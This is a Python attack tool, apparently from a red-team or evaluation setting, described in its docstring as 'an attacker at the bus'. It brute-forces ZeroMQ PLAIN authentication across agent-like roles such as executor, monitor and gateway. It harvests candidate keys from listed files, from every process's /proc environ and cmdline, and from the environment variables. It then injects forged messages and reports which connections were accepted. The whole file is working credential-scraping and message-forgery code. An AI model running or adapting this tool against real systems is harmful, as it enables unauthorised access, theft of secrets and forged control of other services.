"""`python forger.py TARGETS RESULT`: an attacker at the bus, in every role, with every key that it can find or guess.

It speaks ZeroMQ's PLAIN by hand, and says what it forged even where nobody welcomed it. TARGETS is a JSON object: the
sockets ("sockets": a path, or HOST:PORT), files where keys may lie ("files"), and what to say where ("forged": messages
as they cross the wire, in hex, by the socket's name). RESULT becomes one of how many connections stood, and which were
let in. https://rfc.zeromq.org/spec/23 (the wire), https://rfc.zeromq.org/spec/24 (PLAIN)
"""

from __future__ import annotations

import json
import os
import re
import socket
import struct
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from itertools import product
from pathlib import Path

ROLES = ("executor", "planner", "monitor", "completer", "gateway", "daemon", "broker", "daemon-1", "")
KINDS = {"events-in": "PUB", "events-out": "SUB"}
MAX_KEYS = 40
PATIENCE_SECONDS = 3.0
AT_ONCE = 100
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00PLAIN" + bytes(15) + b"\x00" + bytes(31)


def keys(files: list[str]) -> list[str]:
    """What may be a key: guesses, and whatever looks like one in files, processes and the environment."""
    found = dict.fromkeys(("", "0" * 64, "makima", "secret"))
    for path in (*map(Path, files), *Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")):
        with suppress(OSError):
            found.update(dict.fromkeys(_words(path.read_bytes()[:8192])))
    found.update(dict.fromkeys(_words("\n".join(os.environ.values()).encode())))
    return sorted(found, key=lambda word: (len(word) != 64, word))[:MAX_KEYS]


def _words(data: bytes) -> Iterator[str]:
    if len(data) == 32:
        yield data.hex()
    for word in re.findall(rb"[A-Za-z0-9_.-]{16,200}", data):
        yield word.decode()


def framed(parts: list[bytes]) -> bytes:
    """A message as it crosses the wire."""
    flags = [1] * (len(parts) - 1) + [0]
    return b"".join(struct.pack("!BQ", flag | 2, len(part)) + part for flag, part in zip(flags, parts, strict=True))


def tried(where: str, role: str, key: str, forged: list[str]) -> tuple[bool, bool]:
    """Whether a connection stood, and whether it was let in."""
    name = Path(where).stem
    kind = _property("Socket-Type", KINDS.get(name, "DEALER")) + _property("Identity", "rogue")
    try:
        with _connected(where) as peer:
            peer.sendall(GREETING + _command("HELLO", _short(role) + _short(key)))
            welcomed = _hears(peer, b"WELCOME")
            with suppress(OSError):  # blindly, too
                peer.sendall(b"".join([_command("INITIATE", kind), *map(bytes.fromhex, forged)]))
                welcomed = welcomed and _hears(peer, b"READY")
            return True, welcomed
    except OSError:
        return False, False


def _connected(where: str) -> socket.socket:
    host, _, port = where.rpartition(":")
    if host:
        return socket.create_connection((host, int(port)), timeout=PATIENCE_SECONDS)
    connected = socket.socket(socket.AF_UNIX)
    connected.settimeout(PATIENCE_SECONDS)
    connected.connect(where)
    return connected


def _hears(peer: socket.socket, word: bytes) -> bool:
    heard = b""
    with suppress(OSError):
        while word not in heard and (more := peer.recv(4096)):
            heard += more
    return word in heard


def _command(name: str, body: bytes) -> bytes:
    whole = _short(name) + body
    return struct.pack("!BB", 4, len(whole)) + whole


def _property(name: str, value: str) -> bytes:
    return _short(name) + struct.pack("!I", len(value)) + value.encode()


def _short(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def main() -> None:
    targets = json.loads(Path(sys.argv[1]).read_text())
    forged = targets.get("forged", {})
    asked = list(product(targets["sockets"], ROLES, keys(targets["files"])))
    with ThreadPoolExecutor(AT_ONCE) as pool:
        came = list(pool.map(lambda one: tried(*one, forged.get(Path(one[0]).stem, [])), asked))
    let_in = [f"{role} at {where}" for (where, role, _), (_, welcomed) in zip(asked, came, strict=True) if welcomed]
    Path(sys.argv[2]).write_text(json.dumps({"stood": sum(stood for stood, _ in came), "let in": sorted(set(let_in))}))


if __name__ == "__main__":
    main()
